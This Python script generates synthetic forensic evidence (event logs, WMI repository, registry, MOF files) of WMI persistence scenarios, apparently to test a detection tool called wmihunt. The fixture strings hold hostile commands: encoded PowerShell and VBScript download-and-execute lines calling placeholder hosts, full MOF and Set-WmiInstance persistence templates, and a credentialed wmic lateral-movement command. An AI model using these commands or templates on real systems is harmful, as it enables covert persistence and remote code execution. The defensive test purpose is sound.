#!/usr/bin/env python3
"""casegen: evidence trees that tell a story, for the case stage of `wmihunt
hunt` (issue 10: everything about one thing the attacker left, with its
life: created, fired, removed) and for `make demo`. Every file is written by
our own writers: the repository by `wh-cimgen subs` (or `deleted`), the event
logs by `wh-evtxgen events` (each event in the log of its channel, every
event of a host with the same Computer), the SOFTWARE hive by `wh-regfgen
autorecover`, MOF files here.

usage: casegen.py [--gen DIR] SCENARIO OUT
  DIR holds wh-cimgen, wh-evtxgen and wh-regfgen (default: build/tests/gen
  of this checkout). Prints a JSON manifest: per host its Computer name,
  folder, and the subscriptions with their names and times.

Each host is a KAPE-style collection: HOST/C/Windows/System32/{wbem/
Repository, winevt/Logs, config/SOFTWARE} beside KAPE's console and copy
logs. Logs a story leaves empty (System, Application, ...) are valid empty
logs. Times are UTC.

Scenarios:

  lifecycle  one host, WS-FIN-07.corp.example.com, one subscription in
             root\\subscription: filter PerfMonTimer ("SELECT * FROM
             __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA
             'Win32_LocalTime'"), CommandLineEventConsumer PerfMonUpdater
             running `powershell.exe -NoP -W Hidden -Enc <UTF-16LE base64 of
             IEX (New-Object Net.WebClient).DownloadString(
             'http://203.0.113.9/p.ps1')>`. 2024-05-06: 09:02:11 CORP\\adm-jlee
             logs on (4624 type 10, 4672); 09:12:30 C:\\Users\\Public\\perf.mof
             written (#pragma autorecover, the same three instances; its
             mtime); 09:12:38 `mofcomp.exe C:\\Users\\Public\\perf.mof` (Sysmon 1
             + 4688); 09:12:40 Sysmon 19/20/21 Created, Autorecover MOFs
             (SOFTWARE) lists the MOF, repository instances written
             (.215); 09:12:41 WMI-Activity 5861; fired 10:12:41 and 11:12:41
             (Sysmon 1 + 4688 of powershell.exe with exactly the consumer's
             command line, parent WmiPrvSE.exe, NT AUTHORITY\\SYSTEM, 0x3e7).
  removed    one host, WS-ENG-21.corp.example.com. 2024-05-07: 14:01:05
             CORP\\adm-jlee logs on; 14:03:12 PowerShell Set-WmiInstance
             (4104, 4103) creates filter SvcHealthCheck + CommandLineEvent-
             Consumer SvcHealthConsumer (rundll32 C:\\ProgramData\\Health\\
             svchealth.dll,Start) + binding: Sysmon 19/20/21 Created at
             14:03:12.4-.6, 5861 at 14:03:13; fired once 14:08:13; 14:41:30,
             14:41:52, 14:42:10 three `wmic /namespace:\\\\root\\subscription
             path ... where ... delete` (Sysmon 1 + 4688) each followed by
             Sysmon 19/20/21 Deleted. Not in the live repository; its filter,
             consumer and binding (written 14:03:12.5) lie in an unallocated
             page of OBJECTS.DATA.
  twohosts   OUT/WS-HR-12 (Computer WS-HR-12.corp.example.com): filter
             HRSyncFilter + CommandLineEventConsumer HRSyncConsumer, created
             2024-05-08 10:20:05, fired 10:25:06 and 10:30:06; OUT/SRV-DB-03
             (SRV-DB-03.corp.example.com): filter DbMaintTimer +
             ActiveScriptEventConsumer DbMaintScript, created 2024-05-08
             11:40:30, fired (scrcons.exe -> cmd.exe) 11:50:31.
  demo       the realistic collection of `make demo`: WS-FIN-07.corp.example.com,
             2024-03-14 01:58-02:58, the `wh-cimgen deleted` repository. CORP\\
             jose.m logs on over RDP; PowerShell recon; wmic /node: lateral
             execution with explicit credentials (4648); mofcomp of
             C:\\Users\\Public\\Downloads\\update.mof (autorecover; root\\default
             UserLogonTrigger -> ActiveScriptEventConsumer UserLogonScript),
             Set-WmiInstance of WindowsUpdateFilter -> CommandLineEventConsumer
             WindowsUpdateConsumer (live), which fires after each of two
             reboots; the ActiveScript one fires at the next logon and is
             deleted with wmic at 02:47 (Sysmon Deleted; the repository keeps
             it in slack, unallocated and old-map pages).
  all        lifecycle, removed and twohosts into OUT/<name>.
"""
import base64
import datetime
import json
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from treegen import empty_evtx  # noqa: E402

LOGS = ["Microsoft-Windows-WMI-Activity%4Operational.evtx", "Security.evtx",
        "Microsoft-Windows-Sysmon%4Operational.evtx", "Microsoft-Windows-PowerShell%4Operational.evtx",
        "Windows PowerShell.evtx", "System.evtx", "Application.evtx"]

WMIPRVSE = r"C:\Windows\System32\wbem\WmiPrvSE.exe"
WMIPRVSE_CMD = r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"
SCRCONS = r"C:\Windows\System32\wbem\scrcons.exe"
SVCHOST = r"C:\Windows\System32\svchost.exe"
SVCHOST_DCOM = r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"
CMD = r"C:\Windows\System32\cmd.exe"
WMIC = r"C:\Windows\System32\wbem\WMIC.exe"
MOFCOMP = r"C:\Windows\System32\wbem\mofcomp.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
RUNDLL32 = r"C:\Windows\System32\rundll32.exe"
SYSTEM = r"NT AUTHORITY\SYSTEM"
ADMINS = "S-1-5-32-544"


def enc(ps):
    """powershell -Enc takes UTF-16LE base64."""
    return base64.b64encode(ps.encode("utf-16-le")).decode()


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"


def at(s):
    return datetime.datetime.strptime(s, "%Y-%m-%dT%H:%M:%S.%f" if "." in s else "%Y-%m-%dT%H:%M:%S")


def ms(n):
    return datetime.timedelta(milliseconds=n)


def esc(v):
    return str(v).replace("\\", "\\\\").replace("\t", "\\t").replace("\n", "\\n").replace("\r", "\\r")


def mof_str(v):
    return '"' + v.replace("\\", "\\\\").replace('"', '\\"') + '"'


def subscription_mof(ns, filt, query, cclass, cname, props, autorecover=True):
    """A MOF as an intruder writes one for mofcomp: the three instances."""
    out = []
    if autorecover:
        out.append("#pragma autorecover")
    out.append('#pragma namespace("\\\\\\\\.\\\\%s")' % ns.replace("\\", "\\\\"))
    out.append("")
    out.append("instance of __EventFilter as $Filt\n{\n\tName = %s;\n\tEventNamespace = \"root\\\\cimv2\";\n"
               "\tQueryLanguage = \"WQL\";\n\tQuery = %s;\n};\n" % (mof_str(filt), mof_str(query)))
    body = "".join("\t%s = %s;\n" % (k, v if v.isdigit() else mof_str(v)) for k, v in props)
    out.append("instance of %s as $Cons\n{\n\tName = %s;\n%s};\n" % (cclass, mof_str(cname), body))
    out.append("instance of __FilterToConsumerBinding\n{\n\tFilter = $Filt;\n\tConsumer = $Cons;\n};\n")
    return "\n".join(out).replace("\n", "\r\n").encode()


class Host:
    """One machine's story: events (any order; written in time order) and
    the rest of its evidence."""

    def __init__(self, computer, domain="CORP"):
        self.computer, self.domain = computer, domain
        self.machine = computer.split(".")[0] + "$"
        self.events = []
        self.subs = []

    def ev(self, kind, t, *fields):
        self.events.append((t, len(self.events), kind, fields))

    def script(self):
        lines = ["host\t" + self.computer]
        for t, _, kind, fields in sorted(self.events, key=lambda e: (e[0], e[1])):
            lines.append("\t".join([kind, iso(t)] + [esc(f) for f in fields]))
        return "\n".join(lines) + "\n"

    # -- Security and Sysmon --
    def logon(self, t, user, sid, logon_id, ltype=10, ip="10.20.30.99"):
        name = user.split("\\")[-1]
        self.ev("sec4624", t, sid, name, self.domain, logon_id, ltype, ip, r"C:\Windows\System32\svchost.exe")
        self.ev("sec4672", t + ms(1), sid, name, self.domain, logon_id)

    def proc(self, t, pid, image, cmd, user, sid, logon_id, ppid, pimage, pcmd, security=True):
        """Sysmon 1 and (optionally) Security 4688 of one process start."""
        system = sid == "S-1-5-18"
        integrity = "System" if system else "High"
        self.ev("sysmon1", t, pid, image, cmd, r"C:\Windows\system32" + "\\", user, logon_id, integrity, ppid,
                pimage, pcmd, user)
        if security:
            subj = (self.machine if system else user.split("\\")[-1])
            self.ev("sec4688", t, sid, subj, self.domain, logon_id, hex(pid), image, cmd, hex(ppid), pimage)

    def fired(self, t, pid, image, cmd, consumer_class, host_pid):
        """A consumer firing: WmiPrvSE.exe (CommandLine) or scrcons.exe
        (ActiveScript) starts the command as SYSTEM."""
        if consumer_class == "ActiveScriptEventConsumer":
            self.proc(t - ms(900), host_pid, SCRCONS, SCRCONS.lower() + " -Embedding", SYSTEM, "S-1-5-18", "0x3e7",
                      812, SVCHOST, SVCHOST_DCOM)
            self.proc(t, pid, image, cmd, SYSTEM, "S-1-5-18", "0x3e7", host_pid, SCRCONS,
                      SCRCONS.lower() + " -Embedding")
        else:
            self.proc(t, pid, image, cmd, SYSTEM, "S-1-5-18", "0x3e7", host_pid, WMIPRVSE, WMIPRVSE_CMD)

    def sysmon_sub(self, t, op, user, sub, which="fcb"):
        """Sysmon 19/20/21 for sub (dict), 100 ms apart."""
        ctype = "Script" if sub["consumer_class"] == "ActiveScriptEventConsumer" else "Command Line"
        if "f" in which:
            self.ev("sysmon19", t, op, user, "root\\cimv2", sub["filter"], sub["query"])
        if "c" in which:
            self.ev("sysmon20", t + ms(100), op, user, sub["consumer"], ctype, sub["payload"])
        if "b" in which:
            self.ev("sysmon21", t + ms(200), op, user, '%s.Name="%s"' % (sub["consumer_class"], sub["consumer"]),
                    '__EventFilter.Name="%s"' % sub["filter"])

    def wmi5861(self, t, sub, creator_sid):
        props = []
        for k, v in sub["props"]:
            props += [k, v]
        self.ev("wmi5861", t, "//./" + sub["namespace"].replace("\\", "/"), sub["filter"], "root\\cimv2",
                sub["query"], creator_sid, sub["consumer_class"], sub["consumer"], *props)

    # -- the tree --
    def write(self, gen, root, repo_args, hive_args, mofs=(), kape=True):
        c = os.path.join(root, "C")
        s32 = os.path.join(c, "Windows", "System32")
        logs = os.path.join(s32, "winevt", "Logs")
        os.makedirs(logs, exist_ok=True)
        os.makedirs(os.path.join(s32, "config"), exist_ok=True)
        os.makedirs(os.path.join(s32, "wbem", "AutoRecover"), exist_ok=True)
        run([os.path.join(gen, "wh-cimgen")] + repo_args[:1] + [os.path.join(s32, "wbem", "Repository")] + repo_args[1:])
        run([os.path.join(gen, "wh-regfgen")] + hive_args[:1] + [os.path.join(s32, "config")] + hive_args[1:])
        p = subprocess.run([os.path.join(gen, "wh-evtxgen"), "events", "-", logs], input=self.script(), text=True,
                           capture_output=True)
        if p.returncode:
            sys.exit("casegen: wh-evtxgen events: " + p.stderr.strip())
        for n in LOGS:
            if not os.path.exists(os.path.join(logs, n)):
                with open(os.path.join(logs, n), "wb") as f:
                    f.write(empty_evtx())
        for winpath, data, mtime in mofs:
            p = os.path.join(c, *winpath.split("\\")[1:])
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "wb") as f:
                f.write(data)
            if mtime:
                ts = (mtime - datetime.datetime(1970, 1, 1)).total_seconds()
                os.utime(p, (ts, ts))
        if kape:
            stamp = min(e[0] for e in self.events) + datetime.timedelta(days=2)
            st = stamp.strftime("%Y-%m-%dT%H%M%S")
            with open(os.path.join(root, st + "_ConsoleLog.txt"), "w") as f:
                f.write("KAPE version 1.3.0.2 Author: Eric Zimmerman\nTarget: !SANS_Triage\n")
            with open(os.path.join(root, st + "_CopyLog.csv"), "w") as f:
                f.write("CopiedTimestamp,SourceFile,DestinationFile\n")
        return {"computer": self.computer, "root": root, "subscriptions": self.subs}


def run(argv):
    p = subprocess.run(argv, capture_output=True, text=True)
    if p.returncode:
        sys.exit("casegen: %s: %s" % (" ".join(argv[:2]), p.stderr.strip()))


def sub(ns, filt, query, cclass, cname, props, **facts):
    payload = dict(props).get("CommandLineTemplate") or dict(props).get("ScriptText")
    d = {"namespace": ns, "filter": filt, "query": query, "consumer_class": cclass, "consumer": cname,
         "props": props, "payload": payload}
    d.update(facts)
    return d


def repo_entry(state, s, written):
    out = [state, s["namespace"], s["filter"], s["query"], s["consumer_class"], s["consumer"], iso(written)]
    for k, v in s["props"]:
        out += [k, v]
    return out


ADM = r"CORP\adm-jlee"
ADM_SID = "S-1-5-21-3623811015-3361044348-30300820-1107"

LIFE_CMD = "powershell.exe -NoP -W Hidden -Enc " + enc(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')")
LIFE_MOF = r"C:\Users\Public\perf.mof"


def lifecycle(gen, out):
    h = Host("WS-FIN-07.corp.example.com")
    s = sub("root\\subscription", "PerfMonTimer",
            "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime'",
            "CommandLineEventConsumer", "PerfMonUpdater", [("CommandLineTemplate", LIFE_CMD)], mof=LIFE_MOF)
    t0 = at("2024-05-06T09:02:11")
    h.logon(t0, ADM, ADM_SID, "0x5a3f21")
    shell = 6604
    h.proc(t0 + datetime.timedelta(minutes=1), shell, CMD, '"C:\\Windows\\System32\\cmd.exe"', ADM, ADM_SID,
           "0x5a3f21", 4410, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE")
    mof_written = at("2024-05-06T09:12:30")
    h.proc(at("2024-05-06T09:12:38.250"), 7700, MOFCOMP, "mofcomp.exe " + LIFE_MOF, ADM, ADM_SID, "0x5a3f21",
           shell, CMD, '"C:\\Windows\\System32\\cmd.exe"')
    created = at("2024-05-06T09:12:40.100")
    h.sysmon_sub(created, "Created", ADM, s)
    h.wmi5861(at("2024-05-06T09:12:41.020"), s, ADMINS)
    fired = [at("2024-05-06T10:12:41.337"), at("2024-05-06T11:12:41.512")]
    for i, t in enumerate(fired):
        h.fired(t, 8116 + 24 * i, POWERSHELL, LIFE_CMD, s["consumer_class"], 5304)
    s.update(created=iso(created), fired=[iso(t) for t in fired], removed=None)
    h.subs.append(s)
    mof = subscription_mof(s["namespace"], s["filter"], s["query"], s["consumer_class"], s["consumer"], s["props"])
    return [h.write(gen, out, ["subs"] + repo_entry("live", s, at("2024-05-06T09:12:40.215")),
                    ["autorecover", "2024-05-06T09:12:40Z", LIFE_MOF], [(LIFE_MOF, mof, mof_written)])]


def removed(gen, out):
    h = Host("WS-ENG-21.corp.example.com")
    cmdline = r"C:\Windows\System32\rundll32.exe C:\ProgramData\Health\svchealth.dll,Start"
    s = sub("root\\subscription", "SvcHealthCheck",
            "SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA "
            "'Win32_PerfFormattedData_PerfOS_System'",
            "CommandLineEventConsumer", "SvcHealthConsumer", [("CommandLineTemplate", cmdline)])
    t0 = at("2024-05-07T14:01:05")
    logon = "0x6c0e44"
    h.logon(t0, ADM, ADM_SID, logon)
    ps = 5512
    h.proc(t0 + ms(60000), ps, POWERSHELL, "powershell.exe", ADM, ADM_SID, logon, 4410, r"C:\Windows\explorer.exe",
           r"C:\Windows\Explorer.EXE")
    t_ps = at("2024-05-07T14:03:12.100")
    text = ("$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='%s'; "
            "EventNamespace='root\\cimv2'; QueryLanguage='WQL'; Query=\"%s\"}\r\n"
            "$c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments "
            "@{Name='%s'; CommandLineTemplate='%s'}\r\n"
            "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments "
            "@{Filter=$f; Consumer=$c}" % (s["filter"], s["query"], s["consumer"], cmdline))
    h.ev("ps4104", t_ps, ADM_SID, text, "1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f", "")
    h.ev("ps4103", t_ps + ms(200), ADM_SID, ADM, "Set-WmiInstance",
         "CommandInvocation(Set-WmiInstance): \"Set-WmiInstance\"\r\nParameterBinding(Set-WmiInstance): "
         "name=\"Namespace\"; value=\"root\\subscription\"\r\nParameterBinding(Set-WmiInstance): name=\"Class\"; "
         "value=\"__EventFilter\"\r\n")
    created = at("2024-05-07T14:03:12.400")
    h.sysmon_sub(created, "Created", ADM, s)
    h.wmi5861(at("2024-05-07T14:03:13.050"), s, ADM_SID)
    fired = [at("2024-05-07T14:08:13.220")]
    h.fired(fired[0], 8840, RUNDLL32, cmdline, s["consumer_class"], 5304)
    # The intruder cleans up with wmic, one object at a time.
    cmd_shell = 6920
    h.proc(at("2024-05-07T14:40:58"), cmd_shell, CMD, '"C:\\Windows\\System32\\cmd.exe"', ADM, ADM_SID, logon, 4410,
           r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE")
    dels = [("f", "__EventFilter where Name=\"%s\"" % s["filter"], at("2024-05-07T14:41:30.000")),
            ("c", "CommandLineEventConsumer where Name=\"%s\"" % s["consumer"], at("2024-05-07T14:41:52.000")),
            ("b", "__FilterToConsumerBinding where \"Filter='__EventFilter.Name=\\\"%s\\\"'\"" % s["filter"],
             at("2024-05-07T14:42:10.000"))]
    for i, (which, what, t) in enumerate(dels):
        h.proc(t, 7010 + 16 * i, WMIC, "wmic /namespace:\\\\root\\subscription path %s delete" % what, ADM, ADM_SID,
               logon, cmd_shell, CMD, '"C:\\Windows\\System32\\cmd.exe"')
        # sysmon_sub spaces the three by 100 ms; here one at a time, 400 ms after wmic starts.
        off = {"f": 400, "c": 300, "b": 200}[which]
        h.sysmon_sub(t + ms(off), "Deleted", ADM, s, which)
    s.update(created=iso(created), fired=[iso(t) for t in fired],
             removed=iso(dels[0][2] + ms(400)))
    h.subs.append(s)
    return [h.write(gen, out, ["subs"] + repo_entry("deleted", s, at("2024-05-07T14:03:12.500")),
                    ["autorecover", "2024-04-30T08:00:00Z"])]


def twohosts(gen, out):
    hosts = []
    a = Host("WS-HR-12.corp.example.com")
    x_cmd = r"cmd.exe /c C:\Users\Public\Libraries\hrsync.bat"
    x = sub("root\\subscription", "HRSyncFilter",
            "SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA 'Win32_LocalTime'",
            "CommandLineEventConsumer", "HRSyncConsumer", [("CommandLineTemplate", x_cmd)])
    a.logon(at("2024-05-08T10:15:00"), ADM, ADM_SID, "0x41a2b3")
    created = at("2024-05-08T10:20:05.100")
    a.sysmon_sub(created, "Created", ADM, x)
    a.wmi5861(created + ms(900), x, ADMINS)
    fired = [at("2024-05-08T10:25:06.010"), at("2024-05-08T10:30:06.020")]
    for i, t in enumerate(fired):
        a.fired(t, 9100 + 8 * i, CMD, x_cmd, x["consumer_class"], 5304)
    x.update(created=iso(created), fired=[iso(t) for t in fired], removed=None)
    a.subs.append(x)
    hosts.append(a.write(gen, os.path.join(out, "WS-HR-12"),
                         ["subs"] + repo_entry("live", x, created + ms(115)), ["autorecover", "2024-04-30T08:00:00Z"]))

    b = Host("SRV-DB-03.corp.example.com")
    script = ('Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd.exe /c C:\\ProgramData\\dbm\\maint.cmd", 0\r\n')
    y = sub("root\\subscription", "DbMaintTimer",
            "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_LocalTime'",
            "ActiveScriptEventConsumer", "DbMaintScript",
            [("ScriptingEngine", "VBScript"), ("ScriptText", script)])
    b.logon(at("2024-05-08T11:35:40"), ADM, ADM_SID, "0x77c0d1", ltype=3)
    created = at("2024-05-08T11:40:30.300")
    b.sysmon_sub(created, "Created", ADM, y)
    b.wmi5861(created + ms(800), y, ADMINS)
    fired = [at("2024-05-08T11:50:31.400")]
    b.fired(fired[0], 6388, CMD, r"cmd.exe /c C:\ProgramData\dbm\maint.cmd", y["consumer_class"], 6220)
    y.update(created=iso(created), fired=[iso(t) for t in fired], removed=None)
    b.subs.append(y)
    hosts.append(b.write(gen, os.path.join(out, "SRV-DB-03"),
                         ["subs"] + repo_entry("live", y, created + ms(120)), ["autorecover", "2024-04-30T08:00:00Z"]))
    return hosts


# The demo repository (`wh-cimgen deleted`, tests/gen/cimgen.c cimgen_demo):
# its live CommandLine consumer and its deleted root\default ActiveScript one.
DEMO_CMD = "powershell.exe -NoP -NonI -W Hidden -Enc " + enc(
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')")
DEMO_SCRIPT = ("' \u041f\u0440\u0438\u0432\u0435\u0442 \u2014 logon helper\r\n"
               "Set x = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n"
               "x.Open \"GET\", \"http://198.51.100.23/s.vbs\", False\r\n"
               "x.Send\r\n"
               "Execute x.responseText\r\n")
DEMO_USER = r"CORP\jose.m"
# The demo consumer's CreatorSID bytes (cimgen_demo's sid_user).
DEMO_SID = "S-1-5-21-1796878393-785465994-1359333751-1001"
DEMO_MOF = r"C:\Users\Public\Downloads\update.mof"


def demo(gen, out):
    h = Host("WS-FIN-07.corp.example.com")
    live = sub("root\\subscription", "WindowsUpdateFilter",
               "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
               "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND "
               "TargetInstance.SystemUpTime < 325",
               "CommandLineEventConsumer", "WindowsUpdateConsumer",
               [("CommandLineTemplate", DEMO_CMD), ("WorkingDirectory", "C:\\Users\\Jos\u00e9\\AppData\\Local\\Temp")])
    gone = sub("root\\default", "UserLogonTrigger",
               "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession'",
               "ActiveScriptEventConsumer", "UserLogonScript",
               [("KillTimeout", "45"), ("ScriptingEngine", "VBScript"), ("ScriptText", DEMO_SCRIPT)], mof=DEMO_MOF)
    logon = "0x7c1d2e"
    t = at("2024-03-14T01:58:03")
    h.logon(t, DEMO_USER, DEMO_SID, logon)
    shell, ps = 6604, 5512
    h.proc(at("2024-03-14T01:58:40"), shell, CMD, '"C:\\Windows\\System32\\cmd.exe"', DEMO_USER, DEMO_SID, logon,
           4410, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE")
    h.proc(at("2024-03-14T02:00:02"), ps, POWERSHELL, "powershell.exe -NoP", DEMO_USER, DEMO_SID, logon, shell, CMD,
           '"C:\\Windows\\System32\\cmd.exe"')
    # Recon: what subscriptions exist already?
    recon = "Get-WmiObject -Namespace root\\subscription -Class __EventConsumer | Select-Object Name, CommandLineTemplate"
    h.ev("ps4104", at("2024-03-14T02:01:15.300"), DEMO_SID, recon, "7d2a0e3f-4f5c-4d7e-9f80-91a2b3c4d5e6", "")
    h.ev("ps800", at("2024-03-14T02:01:15.900"), DEMO_USER, "powershell.exe -NoP", recon)
    # Lateral execution through WMI with explicit credentials.
    node = ('wmic /node:10.20.30.41 /user:CORP\\svc-backup /password:Winter2024! process call create '
            '"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"')
    h.proc(at("2024-03-14T02:04:50"), 7420, WMIC, node, DEMO_USER, DEMO_SID, logon, shell, CMD,
           '"C:\\Windows\\System32\\cmd.exe"')
    h.ev("sec4648", at("2024-03-14T02:04:50.400"), DEMO_SID, "jose.m", "CORP", logon, "svc-backup", "CORP",
         "10.20.30.41", "0x1cfc", WMIC, "10.20.30.41")
    # mofcomp of an autorecover MOF: the ActiveScript subscription in root\default.
    h.proc(at("2024-03-14T02:19:04.200"), 7700, MOFCOMP, "mofcomp.exe " + DEMO_MOF, DEMO_USER, DEMO_SID, logon,
           shell, CMD, '"C:\\Windows\\System32\\cmd.exe"')
    gone_created = at("2024-03-14T02:19:04.900")
    h.sysmon_sub(gone_created, "Created", DEMO_USER, gone)
    h.wmi5861(at("2024-03-14T02:19:05.400"), gone, DEMO_SID)
    # Set-WmiInstance: the CommandLine subscription in root\subscription.
    text = ("$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='%s'; "
            "EventNamespace='root\\cimv2'; QueryLanguage='WQL'; Query=\"%s\"}\r\n"
            "$c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments "
            "@{Name='%s'; CommandLineTemplate='%s'; WorkingDirectory=$env:TEMP}\r\n"
            "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments "
            "@{Filter=$f; Consumer=$c}" % (live["filter"], live["query"], live["consumer"], DEMO_CMD))
    h.ev("ps4104", at("2024-03-14T02:13:36.800"), DEMO_SID, text, "8e3b1f40-5a6d-4e8f-a091-a2b3c4d5e6f7", "")
    h.ev("ps4103", at("2024-03-14T02:13:37.000"), DEMO_SID, DEMO_USER, "Set-WmiInstance",
         "CommandInvocation(Set-WmiInstance): \"Set-WmiInstance\"\r\nParameterBinding(Set-WmiInstance): "
         "name=\"Namespace\"; value=\"root\\subscription\"\r\nParameterBinding(Set-WmiInstance): name=\"Class\"; "
         "value=\"CommandLineEventConsumer\"\r\n")
    h.ev("ps800", at("2024-03-14T02:13:37.100"), DEMO_USER, "powershell.exe -NoP",
         "Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments $c")
    live_created = at("2024-03-14T02:13:37.200")
    h.sysmon_sub(live_created, "Created", DEMO_USER, live)
    h.wmi5861(at("2024-03-14T02:13:37.900"), live, DEMO_SID)
    # Two reboots to test it; the uptime filter fires 4-5 minutes after each.
    fired = []
    for i, (reboot, fire) in enumerate([("2024-03-14T02:24:10", "2024-03-14T02:29:41.250"),
                                        ("2024-03-14T02:51:30", "2024-03-14T02:56:58.730")]):
        h.proc(at(reboot), 7900 + 40 * i, r"C:\Windows\System32\shutdown.exe", "shutdown.exe /r /t 0", DEMO_USER,
               DEMO_SID, logon, shell, CMD, '"C:\\Windows\\System32\\cmd.exe"')
        h.ev("wmi5857", at(fire) - ms(1500), "CIMWin32", "wmiprvse.exe", 5304,
             "%systemroot%\\system32\\wbem\\cimwin32.dll")
        h.fired(at(fire), 8116 + 40 * i, POWERSHELL, DEMO_CMD, "CommandLineEventConsumer", 5304)
        fired.append(at(fire))
        logon = "0x8%05x" % (0x2a1b + i)
        h.logon(at(fire) + datetime.timedelta(seconds=50), DEMO_USER, DEMO_SID, logon)
    # The logon after the first reboot starts the ActiveScript consumer.
    h.ev("wmi5857", at("2024-03-14T02:30:45.100"), "ActiveScriptEventConsumer", "scrcons.exe", 6220,
         "%SystemRoot%\\system32\\wbem\\scrcons.exe")
    h.proc(at("2024-03-14T02:30:45"), 6220, SCRCONS, SCRCONS.lower() + " -Embedding", SYSTEM, "S-1-5-18", "0x3e7",
           812, SVCHOST, SVCHOST_DCOM)
    shell = 6840
    h.proc(at("2024-03-14T02:46:30"), shell, CMD, '"C:\\Windows\\System32\\cmd.exe"', DEMO_USER, DEMO_SID,
           "0x802a1b", 4410, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE")
    # Cleaning up the ActiveScript one with wmic.
    dels = [("f", '__EventFilter where Name="%s"' % gone["filter"], at("2024-03-14T02:47:55")),
            ("c", 'ActiveScriptEventConsumer where Name="%s"' % gone["consumer"], at("2024-03-14T02:48:09")),
            ("b", "__FilterToConsumerBinding where \"Filter='__EventFilter.Name=\\\"%s\\\"'\"" % gone["filter"],
             at("2024-03-14T02:48:21"))]
    for i, (which, what, t) in enumerate(dels):
        h.proc(t, 7010 + 16 * i, WMIC, "wmic /namespace:\\\\root\\default path %s delete" % what, DEMO_USER,
               DEMO_SID, "0x802a1b", shell, CMD, '"C:\\Windows\\System32\\cmd.exe"')
        h.sysmon_sub(t + ms({"f": 400, "c": 300, "b": 200}[which]), "Deleted", DEMO_USER, gone, which)
    live.update(created=iso(live_created), fired=[iso(t) for t in fired], removed=None)
    gone.update(created=iso(gone_created), fired=[], removed=iso(dels[0][2] + ms(400)))
    h.subs += [live, gone]
    mof = subscription_mof(gone["namespace"], gone["filter"], gone["query"], gone["consumer_class"],
                           gone["consumer"], gone["props"])
    benign = b"// Win32 provider classes (placeholder of the real cimwin32.mof)\r\n#pragma namespace(\"\\\\\\\\.\\\\root\\\\cimv2\")\r\n"
    mofs = [(DEMO_MOF, mof, at("2024-03-14T02:18:40")),
            # WMI keeps a copy of each autorecover MOF it compiled.
            (r"C:\Windows\System32\wbem\AutoRecover\6F1B4D3E2A5C7B8D9E0F1A2B3C4D5E6F.mof", mof,
             at("2024-03-14T02:19:05")),
            (r"C:\Windows\System32\wbem\cimwin32.mof", benign, at("2019-12-07T09:10:00"))]
    return [h.write(gen, out, ["deleted"], ["autorecover", "2024-03-14T02:19:05Z", DEMO_MOF], mofs)]


SCENARIOS = {"lifecycle": lifecycle, "removed": removed, "twohosts": twohosts, "demo": demo}


def main(argv):
    here = os.path.dirname(os.path.abspath(__file__))
    gen = os.path.join(here, "..", "..", "build", "tests", "gen")
    if len(argv) >= 2 and argv[0] == "--gen":
        gen, argv = argv[1], argv[2:]
    if len(argv) != 2 or argv[0] not in list(SCENARIOS) + ["all"]:
        sys.exit(__doc__)
    name, out = argv
    names = ["lifecycle", "removed", "twohosts"] if name == "all" else [name]
    man = {}
    for n in names:
        o = os.path.join(out, n) if name == "all" else out
        os.makedirs(o, exist_ok=True)
        man[n] = SCENARIOS[n](gen, o)
    json.dump(man if name == "all" else man[name], sys.stdout, indent=1)
    print()


if __name__ == "__main__":
    main(sys.argv[1:])
